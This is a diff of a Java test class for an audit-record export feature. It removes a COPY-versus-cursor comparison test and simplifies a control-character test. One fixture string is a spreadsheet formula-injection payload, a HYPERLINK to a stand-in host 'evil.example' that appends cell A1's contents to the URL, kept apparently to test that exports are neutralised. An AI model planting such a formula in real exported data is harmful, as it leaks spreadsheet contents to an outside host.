@@ -65,10 +65,7 @@ class AuditExportTest {
     static final String AUDITOR = "axauditor";
     /** What a spreadsheet would run: a link that sends the reader elsewhere. */
     static final String FORMULA_COMMENT = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";
-    /**
-     * What PostgreSQL's COPY text escapes and the reader must unescape: tabs, line ends, backslashes (the other control
-     * characters, which XML and so XLSX cannot hold, are in {@link CopyRowTest}).
-     */
+    /** Text an export must carry as it is: tabs, line ends, backslashes that look like escapes. */
     static final String CONTROL_TEXT = "第一行\t制表符\n第二行\r\n反斜杠 \\ 与 \\N、\\x41、\\101、\\t结束\\";
     /** As a variable: XLSX cells hold line ends as a line feed ({@link XlsxWriter#cellTexts}), so no tab or return here. */
     static final String BACKSLASH_TEXT = "第一行\n反斜杠 \\ 与 \\N、\\x41、\\101、\\t结束\\";
@@ -82,14 +79,6 @@ class AuditExportTest {
     AuditExporter exporter;
     @Autowired
     JdbcTemplate jdbc;
-    @Autowired
-    javax.sql.DataSource dataSource;
-    @Autowired
-    ExportRecords records;
-    @Autowired
-    AuditExportProperties properties;
-    @Autowired
-    cn.duban.system.DatabaseVendor vendor;
     @LocalServerPort
     int port;
 
@@ -325,41 +314,11 @@ class AuditExportTest {
     }
 
     @Test
-    void copyAndTheCursorWriteTheSameTablesByteForByteAndControlCharactersSurvive(@org.junit.jupiter.api.io.TempDir Path folder)
+    void tabsLineEndsAndBackslashesComeBackAsTheEngineStoredThem(@org.junit.jupiter.api.io.TempDir Path folder)
             throws IOException {
-        assertThat(vendor.postgresql()).isTrue();
-        assertThat(properties.reading()).as("the default reading on PostgreSQL").isEqualTo(AuditExportProperties.Reading.COPY);
-        AuditExporter copy = new AuditExporter(dataSource, jdbc, records, new AuditExportProperties(0, 1000, 6,
-                AuditExportProperties.Reading.COPY), vendor);
-        AuditExporter cursor = new AuditExporter(dataSource, jdbc, records, new AuditExportProperties(0, 1000, 6,
-                AuditExportProperties.Reading.CURSOR), vendor);
-        List<ExportFilter> filters = List.of(ExportFilter.everything(), filterOf(commitment),
-                new ExportFilter(List.of(), List.of("gongxin"), LocalDate.of(2024, 3, 1), LocalDate.of(2024, 6, 30)));
-        for (ExportFilter filter : filters) {
-            for (ExportFormat format : List.of(ExportFormat.CSV, ExportFormat.JSONL)) {
-                Path byCopy = folder.resolve("copy-" + format.id() + ".zip");
-                Path byCursor = folder.resolve("cursor-" + format.id() + ".zip");
-                try (OutputStream out = Files.newOutputStream(byCopy)) {
-                    copy.export(filter, format, AUDITOR, "test", out);
-                }
-                try (OutputStream out = Files.newOutputStream(byCursor)) {
-                    cursor.export(filter, format, AUDITOR, "test", out);
-                }
-                Map<String, byte[]> copied = unzip(byCopy);
-                Map<String, byte[]> read = unzip(byCursor);
-                copied.remove(Manifest.FILE_NAME);
-                read.remove(Manifest.FILE_NAME);
-                assertThat(copied.keySet()).as(filter.summary() + " " + format).isEqualTo(read.keySet());
-                copied.forEach((name, bytes) -> assertThat(new String(bytes, StandardCharsets.UTF_8))
-                        .as(filter.summary() + " " + format + " " + name).isEqualTo(new String(read.get(name), StandardCharsets.UTF_8)));
-                assertThat(copied.values().stream().mapToLong(bytes -> bytes.length).sum()).isGreaterThan(1000);
-            }
-        }
-        // the control characters come back as the engine stored them, in the comment and in the variable's new value
+        // in the comment (read from its bytes) and in the variable's new value (read from its text)
         Path jsonFile = folder.resolve("control.zip");
-        try (OutputStream out = Files.newOutputStream(jsonFile)) {
-            copy.export(filterOf(commitment), ExportFormat.JSONL, AUDITOR, "test", out);
-        }
+        export(filterOf(commitment), ExportFormat.JSONL, jsonFile);
         ObjectMapper json = new ObjectMapper();
         Map<String, byte[]> files = unzip(jsonFile);
         List<String> messages = new ArrayList<>();
